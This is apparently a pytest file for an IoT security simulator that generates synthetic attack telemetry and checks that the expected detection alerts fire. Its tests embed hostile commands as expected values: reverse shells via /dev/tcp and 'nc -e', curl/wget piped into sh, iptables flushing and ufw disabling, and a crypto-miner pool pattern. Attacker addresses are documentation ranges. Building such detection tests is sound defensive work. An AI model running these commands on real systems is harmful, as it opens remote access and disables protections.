"""Attack scenarios: each contains the behaviour it claims, field by field, and nothing else."""

from __future__ import annotations

import ipaddress
import json
import re
import uuid
from datetime import timedelta
from typing import Any

import pytest

from iotsec.schema import Event
from iotsec.simulate import (
    ALERT_BRUTEFORCE_FAIL,
    ALERT_BRUTEFORCE_SUCCESS,
    BRUTEFORCE_FAILURES,
    SCENARIOS,
    THREAT_INTEL_ADDRESSES,
    Fleet,
    UnknownScenario,
    benign_events,
    expand_scenarios,
    run_scenario,
    scenario_indicators,
)
from tests.simulate.conftest import START, assert_valid, by_kind, row

AT = START + timedelta(hours=10)
#: RFC 5737's documentation ranges, where every attacker address lives.
DOCUMENTATION = [
    ipaddress.ip_network(n) for n in ("192.0.2.0/24", "198.51.100.0/24", "203.0.113.0/24")
]


def _rows(events: tuple[Event, ...], name: str) -> list[dict[str, Any]]:
    return [row(e) for e in events if e.name == name]


@pytest.mark.parametrize("name", sorted(SCENARIOS))
def test_scenarios_are_reproducible_and_valid(fleet: Fleet, name: str) -> None:
    for device in by_kind(fleet).values():
        run = run_scenario(name, device, AT, seed=3)
        assert run == run_scenario(name, device, AT, seed=3)
        assert [e.id for e in run.activity] != [
            e.id for e in run_scenario(name, device, AT, seed=4).activity
        ]
        assert run.activity and run.events and run.expected_alerts
        assert run.device_id == device.device_id and run.scenario == name
        assert all(AT <= e.timestamp_utc <= AT + SCENARIOS[name].span for e in run.activity)
        assert_valid([t.event for t in run.events] + list(run.activity), device.agent_id)


@pytest.mark.parametrize("kind", ["camera", "gateway", "sensor-hub", "edge-controller"])
def test_bruteforce_is_many_failures_then_a_success_from_one_address(
    fleet: Fleet, kind: str
) -> None:
    device = by_kind(fleet)[kind]
    run = run_scenario("bruteforce", device, AT, seed=1)
    logins = _rows(run.activity, "Login")
    attacker = run.facts["attacker"]
    assert ipaddress.ip_address(attacker) in DOCUMENTATION[2]
    assert {r["RemoteAddress"] for r in logins} == {attacker}
    results = [r["Result"] for r in logins]
    assert results == ["Fail"] * BRUTEFORCE_FAILURES + ["Success", "Success"]
    assert {r["Operation"] for r in logins[:-1]} == {"PAM:authentication"}
    assert logins[-1]["Operation"] == "login"
    assert logins[-1]["UserName"] == device.profile.logins.admins[0] == run.facts["user"]
    assert logins[-1]["UserId"] == device.profile.uid(run.facts["user"])
    assert {r["Executable"] for r in logins} == {
        device.profile.service(device.profile.logins.daemon).executable
    }
    assert len({r["UserName"] for r in logins}) > 3  # a dictionary of names was tried
    assert len({r["ProcessId"] for r in logins[:-2]}) == BRUTEFORCE_FAILURES  # one per attempt
    inbound = _rows(run.activity, "ConnectionCreate")
    assert len(inbound) == BRUTEFORCE_FAILURES + 1
    assert {(r["Direction"], r["RemoteAddress"], r["LocalPort"]) for r in inbound} == {
        ("In", attacker, "22")
    }
    assert run.expected_alerts == {ALERT_BRUTEFORCE_FAIL, ALERT_BRUTEFORCE_SUCCESS}
    times = [e.timestamp_utc for e in run.activity if e.name == "Login"]
    assert times[-1] - times[0] < timedelta(minutes=5)


def test_the_expected_alerts_can_be_changed(fleet: Fleet) -> None:
    run = run_scenario("bruteforce", fleet.devices[0], AT, expected=["IoT_Bruteforce_Success"])
    assert run.expected_alerts == {"IoT_Bruteforce_Success"}


@pytest.mark.parametrize("kind", ["camera", "gateway"])
def test_reverse_shell_redirects_a_shell_to_the_c2_it_connects_to(fleet: Fleet, kind: str) -> None:
    device = by_kind(fleet)[kind]
    run = run_scenario("reverse-shell", device, AT, seed=2)
    c2, port = run.facts["c2"], run.facts["port"]
    processes = _rows(run.activity, "ProcessCreate")
    entry = device.profile.service(device.profile.attack.entry)
    assert processes[0]["ParentProcessId"] == device.daemon_pid(entry.name)
    assert processes[0]["UserName"] == entry.user
    if kind == "gateway":
        assert f"bash -i >& /dev/tcp/{c2}/{port} 0>&1" in processes[0]["CommandLine"]
        assert processes[1]["Executable"] == "/usr/bin/bash"
        assert processes[-1]["CommandLine"] == "bash -i"
    else:
        assert processes[1]["CommandLine"] == f"nc {c2} {port} -e /bin/sh"
        assert processes[1]["Executable"] == "/bin/busybox"
    (out,) = _rows(run.activity, "ConnectionCreate")
    assert (out["Direction"], out["RemoteAddress"], out["RemotePort"]) == ("Out", c2, port)
    assert out["LocalAddress"] == device.address
    # The process chain holds together: each child names its parent's pid.
    pids = {p["ProcessId"] for p in processes} | {out["ProcessId"]}
    assert all(p["ParentProcessId"] in pids for p in processes[1:])
    web = {"IoT_WebShell"} if kind == "camera" else set()  # lighttpd's www-data runs the shell
    assert run.expected_alerts == {"IoT_ReverseShell", *web}


@pytest.mark.parametrize(("kind", "binary"), [("camera", "cpuminer"), ("gateway", "xmrig")])
def test_miner_runs_with_a_stratum_pool_and_connects_to_it(
    fleet: Fleet, kind: str, binary: str
) -> None:
    run = run_scenario("miner", by_kind(fleet)[kind], AT, seed=2)
    (started,) = _rows(run.activity, "ProcessCreate")
    assert started["Executable"].endswith(f"/{binary}")
    assert re.search(r"-o stratum\+tcp://[\w.-]+:3333 -u 4\w{94} ", started["CommandLine"])
    (pool,) = _rows(run.activity, "ConnectionCreate")
    assert (pool["RemoteAddress"], pool["RemotePort"]) == (run.facts["pool_address"], "3333")
    assert pool["Executable"] == started["Executable"]
    assert pool["CommandLine"] == started["CommandLine"]
    assert run.expected_alerts == {"IoT_CryptoCoinMiner"}


def test_ti_connection_beacons_to_an_address_of_the_stix_bundle(fleet: Fleet) -> None:
    device = by_kind(fleet)["sensor-hub"]
    run = run_scenario("ti-connection", device, AT, seed=5)
    beacons = _rows(run.activity, "ConnectionCreate")
    assert len(beacons) == 6
    assert {(b["Direction"], b["RemoteAddress"], b["RemotePort"]) for b in beacons} == {
        ("Out", run.facts["address"], "443")
    }
    assert run.facts["address"] in _bundle_addresses()
    assert beacons[0]["Executable"] == device.profile.service("sensorhub").executable
    assert run.expected_alerts == {"IoT_SuspiciousIpCommunication"}
    # Aggregated, as the agent sends it: one event that counts the six connections.
    (sent,) = run.events
    assert sent.event.payload[0].extra_details["HitCount"] == "6"


@pytest.mark.parametrize(("kind", "fetch"), [("gateway", "curl -fsSL"), ("camera", "wget -qO-")])
def test_download_exec_pipes_a_download_into_a_shell(fleet: Fleet, kind: str, fetch: str) -> None:
    run = run_scenario("download-exec", by_kind(fleet)[kind], AT, seed=2)
    url = run.facts["url"]
    processes = _rows(run.activity, "ProcessCreate")
    assert processes[0]["CommandLine"].endswith(f"{fetch} {url} | sh")
    assert processes[1]["CommandLine"] == f"{fetch} {url}"
    assert processes[2]["CommandLine"] == "sh"
    (download,) = _rows(run.activity, "ConnectionCreate")
    assert (download["RemoteAddress"], download["RemotePort"]) == (run.facts["server"], "80")
    assert download["ProcessId"] == processes[1]["ProcessId"]
    assert len(_rows(run.activity, "ProcessTerminate")) == 3
    web = {"IoT_WebShell"} if kind == "camera" else set()
    assert run.expected_alerts == {"IoT_DownloadAndExecute", *web}


@pytest.mark.parametrize(("kind", "ufw"), [("gateway", True), ("camera", False)])
def test_firewall_off_flushes_iptables_and_disables_ufw(fleet: Fleet, kind: str, ufw: bool) -> None:
    device = by_kind(fleet)[kind]
    run = run_scenario("firewall-off", device, AT, seed=2)
    processes = _rows(run.activity, "ProcessCreate")
    commands = [p["CommandLine"] for p in processes]
    assert commands[:2] == ["iptables -P INPUT ACCEPT", "iptables -F"]
    assert {p["Executable"] for p in processes[:2]} == {device.profile.attack.iptables}
    assert ("/usr/bin/python3 /usr/sbin/ufw disable" in commands) is ufw
    assert {(p["UserName"], p["UserId"]) for p in processes} == {("root", "0")}
    assert run.expected_alerts == {"IoT_DisableFirewall"}


def test_all_plays_every_scenario_on_one_device(fleet: Fleet) -> None:
    device = by_kind(fleet)["gateway"]
    run = run_scenario("all", device, AT, seed=2)
    singles = [n for n in SCENARIOS if n != "all"]
    assert run.expected_alerts == frozenset().union(
        *(SCENARIOS[n].expected_alerts for n in singles)
    )
    assert {key.split(".")[0] for key in run.facts} == set(singles)
    lines = " ".join(r.get("CommandLine", "") for r in map(row, run.activity))
    for marker in ("/dev/tcp/", "stratum+tcp://", "| sh", "iptables -F"):
        assert marker in lines
    assert run.activity[-1].timestamp_utc - run.activity[0].timestamp_utc > timedelta(hours=1)


def test_attack_addresses_are_documentation_ranges_benign_traffic_never_uses(
    fleet: Fleet,
) -> None:
    device = by_kind(fleet)["edge-controller"]
    run = run_scenario("all", device, AT, seed=7)
    remote = {r["RemoteAddress"] for r in map(row, run.activity) if "RemoteAddress" in r}
    assert remote and all(
        any(ipaddress.ip_address(a) in net for net in DOCUMENTATION) for a in remote
    )
    benign = benign_events(device, START, START + timedelta(days=1), seed=7)
    assert not remote & {row(e).get("RemoteAddress") for e in benign}
    # Only the ti-connection address is in the feed, so no other scenario trips it.
    assert remote & _bundle_addresses() == {run.facts["ti-connection.address"]}


def test_unknown_scenarios_are_refused_with_a_suggestion(fleet: Fleet) -> None:
    with pytest.raises(UnknownScenario, match="did you mean 'reverse-shell'"):
        run_scenario("reverse_shell", fleet.devices[0], AT)
    with pytest.raises(UnknownScenario):
        expand_scenarios(["miner", "nope"])
    with pytest.raises(ValueError, match="timezone-aware"):
        run_scenario("miner", fleet.devices[0], AT.replace(tzinfo=None))


def test_expand_replaces_all_and_drops_repeats() -> None:
    assert expand_scenarios(["miner", "all", "miner"])[0] == "miner"
    assert sorted(expand_scenarios(["all"])) == sorted(n for n in SCENARIOS if n != "all")


def test_the_stix_bundle_is_valid_stix_2_1() -> None:
    bundle = scenario_indicators()
    assert bundle == scenario_indicators()  # fixed ids: loading it twice is one feed
    assert bundle["type"] == "bundle"
    assert _stix_id(bundle["id"], "bundle")
    assert "spec_version" not in bundle  # a 2.1 bundle carries none; its objects do
    indicators = [o for o in bundle["objects"] if o["type"] == "indicator"]
    assert len(indicators) == len(THREAT_INTEL_ADDRESSES)
    ids = {o["id"] for o in bundle["objects"]}
    assert len(ids) == len(bundle["objects"])
    for indicator in indicators:
        assert indicator["spec_version"] == "2.1"
        assert _stix_id(indicator["id"], "indicator")
        assert indicator["pattern_type"] == "stix"
        assert re.fullmatch(r"\[ipv4-addr:value = '[\d.]+'\]", indicator["pattern"])
        assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z", indicator["valid_from"])
        for stamp in ("created", "modified"):
            assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z", indicator[stamp])
        assert indicator["created_by_ref"] in ids
        assert indicator["indicator_types"] == ["malicious-activity"]
    assert _bundle_addresses() == set(THREAT_INTEL_ADDRESSES)


def _stix_id(value: str, kind: str) -> bool:
    prefix, _, rest = value.partition("--")
    return prefix == kind and str(uuid.UUID(rest)) == rest


def _bundle_addresses() -> set[str]:
    found = set()
    for indicator in scenario_indicators()["objects"]:
        match = re.fullmatch(r"\[ipv4-addr:value = '(.+)'\]", indicator.get("pattern", ""))
        if match:
            found.add(match[1])
    return found


def test_scenario_processes_use_the_device_accounts(fleet: Fleet) -> None:
    for device in fleet:
        run = run_scenario("all", device, AT, seed=1)
        for fields in _rows(run.activity, "ProcessCreate"):
            assert fields["UserId"] == device.profile.uid(fields["UserName"])
            assert fields["Executable"].startswith("/")


def test_the_analytics_stix_reader_loads_every_indicator() -> None:
    stix = pytest.importorskip("iotsec.analytics.intel.stix")
    load = stix.read_bundle(json.dumps(scenario_indicators()), feed="demo")
    assert {i.value for i in load.indicators} == set(THREAT_INTEL_ADDRESSES)
    assert not load.skipped
